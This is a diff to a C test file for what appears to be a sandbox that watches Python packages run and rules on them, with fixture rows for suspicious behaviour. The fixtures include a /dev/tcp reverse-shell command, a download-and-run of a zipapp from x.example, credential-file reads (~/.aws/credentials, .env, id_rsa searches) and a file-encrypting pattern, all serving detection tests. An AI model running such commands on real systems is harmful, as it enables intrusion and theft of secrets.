@@ -148,6 +148,7 @@ static const struct row proofs[] = {
     { W(HONEY_SENT), EVENT_SUBMODULE, "$GITHUB_TOKEN", "", 0, "WCH002 high" },
     { W(HONEY_READ), 0, "~/.aws/credentials", "", 0, "WCH003 high" },
     { W(HONEY_READ), EVENT_SUBMODULE, "~/.aws/credentials", "", 0, "WCH003 medium" },
+    { W(HONEY_READ), 0, "~/project/.env", "", 0, "WCH003 medium" },
     { W(HONEY_READ), 0, "$AWS_ACCESS_KEY_ID", "", 0, "" },
 };
 
@@ -246,6 +247,14 @@ static const struct row programs[] = {
     { W(EXEC), PATH_SYSTEM, "/usr/bin/cat", "cat /proc/cpuinfo", 0, "WCH040 info" },
     { W(EXEC), PATH_SYSTEM, "/usr/bin/cat", "cat /proc/1/environ", 0, "WCH039 medium" },
     { W(EXEC), PATH_SYSTEM, "/usr/bin/cat", "cat /home/alex/.bash_history", 0, "WCH039 medium" },
+    { W(EXEC), PATH_SYSTEM, "/usr/bin/cat", "cat .env", 0, "WCH039 medium" },
+    { W(EXEC), PATH_SYSTEM, "/usr/bin/ls", "ls -la", 0, "WCH039 medium" },
+    { W(EXEC), PATH_SYSTEM, "/usr/bin/ls", "ls /sys/class", 0, "WCH040 info" },
+    { W(EXEC), PATH_SYSTEM, "/usr/bin/grep", "grep -r flags", 0, "WCH040 info" },
+    { W(EXEC), PATH_SYSTEM, "/usr/bin/grep", "grep -r key /home", 0, "WCH039 medium" },
+    { W(EXEC), PATH_SYSTEM, "/usr/bin/find", "find . -name id_rsa", 0, "WCH036 medium" },
+    { W(EXEC), PATH_SYSTEM, "/usr/sbin/sysctl", "sysctl -n kernel.osrelease", 0, "WCH040 info" },
+    { W(EXEC), PATH_SYSTEM, "/usr/sbin/sysctl", "sysctl -n kernel.x=1", 0, "WCH039 medium" },
     /* Python */
     { W(EXEC), EXEC_SELF, PY,
       BIN "python -B -c 'from multiprocessing.resource_tracker import main;main(5)'", 0,
@@ -262,6 +271,9 @@ static const struct row programs[] = {
       "WCH041 medium" },
     { W(EXEC), EXEC_SELF, PY, "python -c 'import base64'", 0, "WCH041 medium" },
     { W(EXEC), EXEC_SELF, PY, "python -m platform", 0, "WCH040 info" },
+    { W(EXEC), EXEC_SELF, PY, "python -B -s -m platform", 0, "WCH040 info" },
+    { W(EXEC), EXEC_SELF, PY, "python -m http.server", 0, "WCH041 medium" },
+    { W(EXEC), EXEC_SELF, PY, "python -m", 0, "WCH041 medium" },
     { W(EXEC), EXEC_SELF, PY, "python -m pip install x", 0, "WCH033 high" },
     { W(EXEC), EXEC_SELF, PY, "python -m pip --version", 0, "WCH040 info" },
     { W(EXEC), EXEC_SELF | EXEC_ARG_WRITTEN, PY, "python /tmp/x.pyz", 0, "WCH032 high" },
@@ -284,6 +296,16 @@ static const struct row programs[] = {
     { W(EXEC), PATH_SYSTEM, "/usr/bin/bash", "bash -i", 0, "WCH030 high" },
     { W(EXEC), PATH_SYSTEM | EXEC_ARG_WRITTEN, "/usr/bin/bash", "bash /tmp/x", 0, "WCH032 high" },
     { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'uname -p", 0, "WCH030 medium" },
+    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'uname -p' 'x'", 0, "WCH030 medium" },
+    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'uname -p; sh x'", 0, "WCH030 medium" },
+    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'uname -p; . ./x'", 0, "WCH030 medium" },
+    { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -V", 0, "WCH030 medium" },
+    { W(EXEC), PATH_SYSTEM, "/usr/bin/bash", "bash --version", 0, "WCH040 info" },
+    { W(EXEC), EXEC_SELF, PY, "python -v", 0, "WCH041 medium" },
+    { W(EXEC), EXEC_SELF, PY, "python -V", 0, "WCH040 info" },
+    { W(EXEC), EXEC_SELF | PATH_SITE, BIN "python3", "python3 -V", 0, "WCH040 info" },
+    { W(EXEC), PATH_HOME, HOME ".x/python3", "python3 -V", 0, "WCH041 medium" },
+    { W(EXEC), PATH_SYSTEM, "/usr/bin/env", "env -0", 0, "WCH036 medium" },
     /* by what they are for */
     { W(EXEC), PATH_SYSTEM, "/usr/bin/curl", "curl -k -L -s https://x.example/y", 0,
       "WCH031 high" },
@@ -305,6 +327,10 @@ static const struct row programs[] = {
     { W(EXEC), EXEC_MISSING, "/usr/bin/frobnicate", "frobnicate now", 0, "WCH039 low" },
     { W(EXEC), PATH_SITE, SITE "some/bin/tool", "tool --serve", 0, "WCH042 medium" },
     { W(EXEC), PATH_SITE, SITE "some/bin/tool", "tool --version", 0, "WCH042 low" },
+    { W(EXEC), PATH_SITE, SITE "some/bin/as", "as x", 0, "WCH042 medium" },
+    { W(EXEC), PATH_SITE, SITE "some/bin/git", "git log", 0, "WCH042 medium" },
+    { W(EXEC), PATH_SITE, SITE "some/bin/curl", "curl x", 0, "WCH031 high" },
+    { W(EXEC), PATH_HOME, HOME "x/uname", "uname -p", 0, "WCH039 medium" },
     { W(EXEC), PATH_TMP | EXEC_WRITTEN, "/tmp/x", "", 0, "WCH032 high" },
     { W(EXEC), EXEC_MEMFD, "/memfd:x", "", 0, "WCH032 high" },
     { W(OPEN), PATH_HOME, HOME ".cache/x/y", "O_WRONLY|O_CREAT", 0, NULL },
@@ -312,6 +338,7 @@ static const struct row programs[] = {
     /* a program that is looked for on PATH */
     { W(EXEC), EXEC_MISSING, BIN "uname", "uname -p", 0, NULL },
     { W(EXEC), PATH_SYSTEM, "/usr/bin/uname", "uname -p", 0, "WCH040 info" },
+    { W(EXEC), EXEC_MISSING | PATH_SITE, BIN "fc-list", "fc-list", 0, "WCH040 info" },
     { W(EXEC), EXEC_MISSING, "/usr/local/bin/curl", "curl x", 0, NULL },
     { W(EXEC), EXEC_MISSING, "/usr/bin/curl", "curl x", 0, "" },
     { W(EXEC), 0, "/usr/bin/curl", "curl x", 0, NULL },
@@ -383,10 +410,18 @@ static const struct row files[] = {
     { W(LEFT), PATH_SITE | LEFT_NEW, SITE "some/hash_seed.txt", "", 9, "WCH066 low" },
     { W(IMPORT), 0, "some.client", "", 0, NULL },
     { W(LEFT), PATH_SITE | LEFT_CHANGED, SITE "some/client.py", "", 9, "WCH061 medium" },
+    { W(LEFT), PATH_SITE | LEFT_NEW, SITE "other/hash_seed.txt", "", 9, "WCH061 medium" },
     { W(LEFT), PATH_SITE | LEFT_NEW, SITE "some/__pycache__/x.cpython-311.pyc", "", 9,
       "WCH066 info" },
     { W(LEFT), PATH_SITE | LEFT_CHANGED, SITE "some/__pycache__/x.cpython-311.pyc", "", 9,
       "WCH061 medium" },
+    { W(RENAME), PATH_SITE, SITE "a/__pycache__/x.pyc", SITE "a/__pycache__/x.pyc.1", 0, NULL },
+    { W(LEFT), PATH_SITE | LEFT_NEW, SITE "a/__pycache__/x.pyc", "", 9, "WCH066 info" },
+    { W(OPEN), PATH_SITE, SITE "a/__pycache__/x.pyc", "O_WRONLY", 0, NULL },
+    { W(LEFT), PATH_SITE | LEFT_NEW, SITE "a/__pycache__/x.pyc", "", 9, "WCH061 medium" },
+    { W(LEFT), PATH_SITE | LEFT_NEW | LEFT_EXECUTABLE, SITE "a/__pycache__/x.pyc", "\\x7fELF", 9,
+      "WCH061 high" },
+    { W(LEFT), PATH_SITE | LEFT_NEW | LEFT_FOLDER, SITE "a/__pycache__", "", 9, "WCH066 info" },
     { W(LEFT), PATH_SITE | LEFT_NEW, SITE "other.py", "", 9, "WCH061 high" },
     { W(OPEN), PATH_SITE, SITE "requests/api.py", "O_WRONLY", 0, "WCH061 high" },
     { W(OPEN), PATH_SITE, SITE "some/__pycache__/x.cpython-311.pyc.139", "O_WRONLY", 0,
@@ -395,6 +430,7 @@ static const struct row files[] = {
     { W(LEFT), PATH_HOME | PATH_BAIT | LEFT_CHANGED, HOME "Documents/report.odt", "", 9,
       "WCH062 high" },
     { W(LEFT), PATH_HOME | PATH_BAIT | LEFT_GONE, HOME ".bash_history", "", 9, "WCH062 high" },
+    { W(LEFT), PATH_HOME | PATH_BAIT | LEFT_CHANGED | LEFT_FOLDER, HOME ".config", "", 9, "" },
     { W(UNLINK), PATH_HOME | PATH_BAIT, HOME ".bash_history", "", 0, "WCH062 high" },
     { W(LEFT), PATH_HOME | LEFT_GONE, HOME ".ssh/id_ed25519", "", 9, "WCH062 high" },
     /* programs, fetched content, data */
@@ -465,6 +501,27 @@ static const struct row watches[] = {
     { W(STARTUP), 0, "3.11.2", "", 0, "" },
     { W(PASS), 0, "as root", "", 0, "" },
 };
+
+/* A dependency that keeps data in its own folder is told by who opened the file. */
+TEST(watch_of_a_dependency)
+{
+    struct court c;
+    struct fact f;
+
+    court_open(&c);
+    add_read(&c);
+    f = fact_of(&c, W(OPEN), PATH_SITE, SITE "other/hash_seed.txt", "O_WRONLY|O_CREAT", 0);
+    f.refs[0] = SPAN_LITERAL(SITE "other/utils.py:3 seed");
+    f.refs_n = 1;
+    facts_add(&c.facts, &f);
+    add(&c, W(LEFT), PATH_SITE | LEFT_NEW, SITE "other/hash_seed.txt", "", 9);
+    court_judge(&c);
+    CHECK(c.judged.verdict == PRATIQUE_ADMIT, "its own: %d", (int)c.judged.verdict);
+    add(&c, W(LEFT), PATH_SITE | LEFT_NEW, SITE "other/hash_seed.py", "", 9);
+    court_judge(&c);
+    CHECK(c.judged.verdict == PRATIQUE_REFUSE, "code: %d", (int)c.judged.verdict);
+    court_close(&c);
+}
 
 TEST(watch_proofs)
 {
@@ -576,6 +633,203 @@ TEST(watch_evidence_says_what_and_who)
     check_evidence(W(RENAME), PATH_HOME, HOME ".profile", "/tmp/y", 0,
                    HOME ".profile (/tmp/y); it is not there afterwards" BY);
 #undef BY
+}
+
+/* Whole watches, as they were seen or told of: the facts, and what they make of the wheel. */
+#define STORY_FACTS 8
+static const struct story {
+    const char *what;
+    enum pratique_verdict want;
+    struct row facts[STORY_FACTS];
+} stories[] = {
+    { "it fetches a zipapp and starts it detached",
+      PRATIQUE_REFUSE,
+      { { W(LOOKUP), 0, "x.example", "A", 27, "" },
+        { W(CONNECT), 0, "tcp 192.0.2.1:443", "x.example", 0, "" },
+        { W(REQUEST), REQUEST_TLS, "https://x.example/transformers.pyz", "GET", 120, "" },
+        { W(OPEN), PATH_TMP, "/tmp/transformers.pyz", "O_WRONLY|O_CREAT", 0, "" },
+        { W(EXEC), EXEC_SELF | EXEC_ARG_WRITTEN | EXEC_CANARY, PY, "python /tmp/transformers.pyz",
+          0, "" },
+        { W(CANARY), 0, "python", "https://x.example/transformers.pyz", 0, "" } } },
+    { "the same, in a module beyond the roots, and nothing is answered",
+      PRATIQUE_HOLD,
+      { { W(LOOKUP), EVENT_SUBMODULE, "x.example", "A", 27, "" },
+        { W(IMPORTED), EVENT_SUBMODULE, "some.client", "", 1, "" } } },
+    { "a start-up file for every interpreter",
+      PRATIQUE_REFUSE,
+      { { W(LEFT), PATH_SITE | LEFT_NEW, SITE "some_init.pth", "import os", 40, "" } } },
+    { "a shell that connects back",
+      PRATIQUE_REFUSE,
+      { { W(EXEC), PATH_SYSTEM, "/usr/bin/bash", "bash -c 'sh -i >& /dev/tcp/192.0.2.1/9 0>&1'", 0,
+          "" } } },
+    { "a downloader that is not there",
+      PRATIQUE_HOLD,
+      { { W(EXEC), EXEC_MISSING, BIN "curl", "curl -s http://x.example", 0, "" },
+        { W(EXEC), EXEC_MISSING, "/usr/bin/curl", "curl -s http://x.example", 0, "" } } },
+    { "files of the user are gone",
+      PRATIQUE_REFUSE,
+      { { W(LEFT), PATH_HOME | PATH_BAIT | LEFT_GONE, HOME "Documents/a.odt", "", 0, "" },
+        { W(LEFT), PATH_HOME | LEFT_NEW, HOME "Documents/a.odt.locked", "", 900, "" } } },
+    { "it sleeps an hour", PRATIQUE_HOLD, { { W(SLEEP), 0, "", "", 3600000, "" } } },
+    { "it lists the processes of others",
+      PRATIQUE_HOLD,
+      { { W(EXEC), PATH_SYSTEM, "/usr/bin/ps", "ps aux", 0, "" } } },
+    { "the watch ran out of time",
+      PRATIQUE_UNDECIDED,
+      { { W(LIMIT), 0, "time", "300 s", 0, "" } } },
+    { "urllib3 looks whether there is IPv6",
+      PRATIQUE_ADMIT,
+      { { W(BIND), NET_LOOPBACK, "tcp [::1]:0", "", 0, "" } } },
+    { "joblib makes a semaphore",
+      PRATIQUE_ADMIT,
+      { { W(OPEN), PATH_TMP, "/dev/shm/sem.0Ve1eG", "O_RDWR|O_CREAT|O_EXCL", 0, "" },
+        { W(LINK), PATH_TMP, "/dev/shm/sem.joblib-25822-wtm2x1ee", "/dev/shm/sem.0Ve1eG", 0, "" },
+        { W(UNLINK), PATH_TMP, "/dev/shm/sem.0Ve1eG", "", 0, "" },
+        { W(UNLINK), PATH_TMP, "/dev/shm/sem.joblib-25822-wtm2x1ee", "", 0, "" } } },
+    { "weasyprint looks for libraries",
+      PRATIQUE_ADMIT,
+      { { W(EXEC), PATH_SYSTEM, "/sbin/ldconfig", "/sbin/ldconfig -p", 0, "" },
+        { W(OPEN), PATH_TMP, "/tmp/tmp4j7gyswe", "O_RDWR|O_CREAT|O_EXCL", 0, "" },
+        { W(EXEC), PATH_SYSTEM | EXEC_ARG_WRITTEN, "/usr/bin/x86_64-linux-gnu-gcc-12",
+          "/usr/bin/gcc -Wl,-t -o /tmp/tmp4j7gyswe -llibgobject-2.0-0", 0, "" },
+        { W(EXEC), PATH_SYSTEM, "/usr/lib/gcc/x86_64-linux-gnu/12/collect2", "collect2 -plugin x",
+          0, "" },
+        { W(EXEC), EXEC_MISSING, BIN "ld", "ld -t -o /dev/null -lgobject-2.0-0", 0, "" },
+        { W(EXEC), PATH_SYSTEM, "/usr/bin/x86_64-linux-gnu-ld.bfd",
+          "ld -t -o /dev/null -lgobject-2.0-0", 0, "" },
+        { W(UNLINK), PATH_TMP, "/tmp/tmp4j7gyswe", "", 0, "" } } },
+    { "matplotlib lists fonts and keeps the list",
+      PRATIQUE_ADMIT,
+      { { W(EXEC), EXEC_MISSING, BIN "fc-list", "fc-list --help", 0, "" },
+        { W(EXEC), PATH_SYSTEM, "/usr/bin/fc-list", "fc-list --help", 0, "" },
+        { W(OPEN), PATH_HOME, HOME ".cache/matplotlib/fontlist-v3.json", "O_WRONLY|O_CREAT", 0,
+          "" },
+        { W(UNLINK), PATH_HOME, HOME ".cache/matplotlib/x.matplotlib-lock", "", 0, "" },
+        { W(LEFT), PATH_HOME | LEFT_NEW, HOME ".cache/matplotlib/fontlist-v3.json", "{", 9, "" },
+        { W(LEFT), PATH_HOME | LEFT_NEW | LEFT_FOLDER, HOME ".config/matplotlib", "", 0, "" } } },
+    { "ddtrace asks its agent on this machine",
+      PRATIQUE_ADMIT,
+      { { W(CONNECT), NET_LOOPBACK, "tcp 127.0.0.1:8126", "", 0, "" },
+        { W(CONNECT), NET_UNIX, "unix /var/run/nscd/socket", "", 0, "" },
+        { W(MEMFD), 0, "OTEL_CTX", "", 0, "" } } },
+    { "a dependency is missing",
+      PRATIQUE_ADMIT,
+      { { W(IMPORTED), 0, "some", "ModuleNotFoundError: No module named 'x'", 0, "" },
+        { W(DONE), 0, "wheel", "", 0, "" } } },
+    { "a build compiles and tests what it made",
+      PRATIQUE_ADMIT,
+      { { W(DONE), 0, "command", "", 0, "" },
+        { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'cc -shared x.c -o x.so'", 0, "" },
+        { W(EXEC), PATH_HOME | EXEC_WRITTEN, HOME "project/conftest", "", 0, "" },
+        { W(LOAD), PATH_HOME | EXEC_WRITTEN, HOME "project/x.so", "", 0, "" },
+        { W(EXEC), PATH_SYSTEM, "/usr/bin/rm", "rm -rf build", 0, "" },
+        { W(LEFT), PATH_HOME | LEFT_NEW | LEFT_EXECUTABLE, HOME "project/x.so", "", 9, "" } } },
+    { "a build that fetches",
+      PRATIQUE_REFUSE,
+      { { W(DONE), 0, "command", "", 0, "" },
+        { W(REQUEST), 0, "http://x.example/y.tar.gz", "GET", 90, "" } } },
+};
+
+TEST(watch_of_whole_stories)
+{
+    for (size_t i = 0; i < sizeof stories / sizeof *stories; i++) {
+        const struct story *s = &stories[i];
+        struct court c;
+
+        court_open(&c);
+        for (size_t k = 0; k < STORY_FACTS && s->facts[k].subject; k++)
+            add(&c, s->facts[k].kind, s->facts[k].flags, s->facts[k].subject, s->facts[k].detail,
+                s->facts[k].number);
+        add_read(&c);
+        court_judge(&c);
+        CHECK(c.judged.verdict == s->want, "%s: %s, not %s", s->what,
+              pratique_verdict_name(c.judged.verdict), pratique_verdict_name(s->want));
+        court_close(&c);
+    }
+}
+
+/* Texts come from hostile processes: each kind takes any, with every flag. */
+TEST(watch_of_any_text)
+{
+    static const char *const texts[] = {
+        "",
+        " ",
+        "'",
+        "\"",
+        "\\",
+        "a'",
+        "' '",
+        "\"'",
+        "-",
+        "-c",
+        "- c",
+        "/",
+        "//",
+        ".",
+        "..",
+        ":",
+        "tcp",
+        "tcp ",
+        "tcp :",
+        "tcp []:1",
+        "tcp [:99999999999",
+        "unix",
+        "unix ",
+        "unix @",
+        "[",
+        "]",
+        "@",
+        "https://",
+        "https://@",
+        "https://[",
+        "https://[]:",
+        "a://b:",
+        "://",
+        "/home/",
+        "/root/",
+        "/home/x",
+        "~",
+        "sh -c",
+        "sh -c '",
+        "sh -c ''",
+        "sh -c ' '",
+        "sh -c '|'",
+        "sh -c '=;='",
+        "sh -c 'sh -c'",
+        "python -W",
+        "python -X",
+        "python -m",
+        "python -c",
+        "env",
+        "git -C",
+        "x-linux-gnu-",
+        "123",
+        "-12",
+        "/lib/python",
+        "/.venv/",
+        "-packages/",
+        "-packages//",
+        "...",
+        "from multiprocessing.spawn import spawn_main; spawn_main(",
+        "LANG=",
+        "LC_ALL= LANG=",
+    };
+    static const unsigned flags[] = { 0, UINT32_MAX, PATH_SITE, NET_UNIX, EXEC_MISSING };
+    struct court c;
+
+    for (size_t f = 0; f < sizeof flags / sizeof *flags; f++) {
+        court_open(&c);
+        for (unsigned kind = 0; kind < FACT_KINDS; kind++) {
+            if (!verdict_is_watch((enum fact_kind)kind))
+                continue;
+            for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
+                add(&c, (enum fact_kind)kind, flags[f], texts[i],
+                    texts[(i * 7 + kind) % (sizeof texts / sizeof *texts)], i);
+        }
+        court_judge(&c);
+        CHECK(c.judged.n > 100, "findings %zu", c.judged.n);
+        court_close(&c);
+    }
 }
 
 /* As many facts as there may be, all of one kind that looks at the others: in no time. */
